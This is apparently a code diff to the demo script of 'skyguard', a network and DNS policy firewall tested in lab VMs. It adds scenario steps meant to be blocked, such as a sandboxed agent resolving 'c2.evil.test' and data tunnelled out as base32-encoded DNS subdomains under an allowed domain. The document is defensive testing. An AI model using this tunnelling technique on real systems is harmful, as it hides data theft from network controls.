@@ -23,8 +23,9 @@ from rich.table import Table
 
 from skyguard import config
 from skyguard.errors import SkyguardError
+from skyguard.lab.addressing import addresses_for_name
 
-# A tiny client run inside a lab VM: connect (tcp) or send-and-await-echo (udp) or ping; prints
+# A tiny client run inside a lab VM: connect (tcp) or send-and-await-echo (udp); prints
 # "ok" or the error. Exit status 0 means the traffic got through.
 _PROBE = r"""
 import socket, sys
@@ -36,12 +37,31 @@ s = socket.socket(family, kind); s.settimeout(1.5)
 try:
     if src: s.bind((src, 0))
     if proto == "tcp":
-        s.connect((host, port)); s.sendall(b"demo"); s.recv(16)
+        s.connect((host, port))  # the handshake crossed skyguard both ways
     else:
         s.sendto(b"demo", (host, port)); s.recvfrom(16)
     print("ok")
 except OSError as e:
     print(type(e).__name__); sys.exit(1)
+"""
+
+# A DNS client run inside a lab VM (the VM's resolver is the lab's 192.0.2.53; skyguard answers
+# whatever address is asked). Exit 0 if every query got an answer with records.
+_DNS = r"""
+import base64, os, sys
+from dnslib import DNSRecord
+names = sys.argv[1:]
+if names[0] == "--tunnel":  # exfiltrate random bytes, base32-encoded, as subdomains
+    names = [base64.b32encode(os.urandom(20)).decode().rstrip("=").lower() + "." + names[1]
+             for _ in range(40)]
+for name in names:
+    try:
+        reply = DNSRecord.parse(DNSRecord.question(name).send("192.0.2.53", 53, timeout=2))
+    except Exception as e:
+        print(type(e).__name__); sys.exit(1)
+    if reply.header.rcode != 0 or not reply.rr:
+        print("rcode", reply.header.rcode); sys.exit(1)
+print("ok")
 """
 
 # TCP echo servers a scenario needs inside lab VMs: (vm, port).
@@ -68,10 +88,15 @@ class Step:
     why: str = ""  # filled in from what the datapath reports
     got: str = ""
     setup: list[list[str]] = field(default_factory=list)  # commands run in the VM first
+    dns: bool = False  # the decision is the DNS proxy's (read from the log), not the datapath's
 
 
 def probe(proto: str, host: str, port: int, src: str | None = None) -> list[str]:
     return ["python3", "-c", _PROBE, proto, host, str(port)] + ([src] if src else [])
+
+
+def dns_query(*names: str) -> list[str]:
+    return [sys.executable, "-c", _DNS, *names]
 
 
 def scenario() -> list[Step]:
@@ -90,6 +115,14 @@ def scenario() -> list[Step]:
              probe("tcp", "169.254.169.254", 80), "denied"),
         Step("sandboxed agent posts to an unlisted internet host (exfiltration)", "agent1",
              probe("tcp", "203.0.113.66", 443), "denied"),
+        Step("SDN controller resolves api.github.test (allowed by name)", "sdnctl1",
+             dns_query("api.github.test"), "allowed", dns=True),
+        Step("SDN controller calls the learned address over HTTPS", "sdnctl1",
+             probe("tcp", str(addresses_for_name("api.github.test")[0]), 443), "allowed"),
+        Step("sandboxed agent resolves a name no rule gives it", "agent1",
+             dns_query("c2.evil.test"), "denied", dns=True),
+        Step("sandboxed agent tunnels data out in DNS names under an allowed domain", "agent1",
+             dns_query("--tunnel", "files.pythonhosted.test"), "denied", dns=True),
         Step("sandboxed agent spoofs the directory's address", "agent1",
              probe("udp", "192.0.2.10", 514, src="10.10.2.2"), "denied",
              setup=[["ip", "addr", "add", "10.10.2.2/32", "dev", "eth0"]]),
@@ -109,6 +142,7 @@ class Demo:
         self.lab = None
         self.daemon = None
         self.helpers: list[subprocess.Popen] = []
+        self.log_mark = 0  # log size before the current step
 
     # ---- helpers --------------------------------------------------------------------------
     def say(self, text: str) -> None:
@@ -182,6 +216,7 @@ class Demo:
             for cmd in step.setup:
                 self.lab.exec(step.vm, cmd, capture_output=True)
             before = self.control("status")["counters"]
+            self.log_mark = self.log_size()
             done = self.lab.exec(step.vm, step.argv, capture_output=True, text=True)
             step.got = "allowed" if done.returncode == 0 else "denied"
             step.why = self.explain(before, self.control("status")["counters"], step)
@@ -190,7 +225,10 @@ class Demo:
         return steps
 
     def explain(self, before: dict, after: dict, step: Step) -> str:
-        """Why, as the datapath reports it: new drop reasons, or the rule of the flow's conntrack entry."""
+        """Why, as skyguard reports it: the DNS proxy's last logged decision for the VM, new drop
+        reasons in the datapath's counters, or the rule of the flow's conntrack entry."""
+        if step.dns:
+            return self.last_dns_decision(step.vm)
         def drops(c):
             return {(d["zone"], d["direction"], d["reason"]): d["packets"] for d in c["drops"]}
         b, a = drops(before), drops(after)
@@ -200,6 +238,27 @@ class Demo:
         host, port = step.argv[-2], int(step.argv[-1])
         rules = {f["rule"] for f in self.control("conntrack")["flows"] if f["dst"] == host and f["dport"] == port}
         return "rule " + ", ".join(sorted(rules)) if rules else "allowed"
+
+    def last_dns_decision(self, workload: str) -> str:
+        """DNS decisions are logged in the next group commit, not before the answer: poll briefly."""
+        from skyguard.tlog import LogReader
+        from skyguard.tlog.entries import decode
+
+        deadline = time.monotonic() + 3
+        while True:
+            reader = LogReader(Path(self.env["SKYGUARD_STATE_DIR"]) / "log")
+            for index in range(reader.size - 1, max(self.log_mark, 0) - 1, -1):
+                record = decode(reader.entry(index))
+                if record.get("type") == "dns" and record.get("workload") == workload:
+                    return f"DNS {record['verdict']}: {record['reason']}"
+            if time.monotonic() > deadline:
+                return "no DNS decision logged"
+            time.sleep(0.1)
+
+    def log_size(self) -> int:
+        from skyguard.tlog import LogReader
+
+        return LogReader(Path(self.env["SKYGUARD_STATE_DIR"]) / "log").size
 
     def show(self, steps: list[Step]) -> None:
         table = Table(title="What skyguard decided")
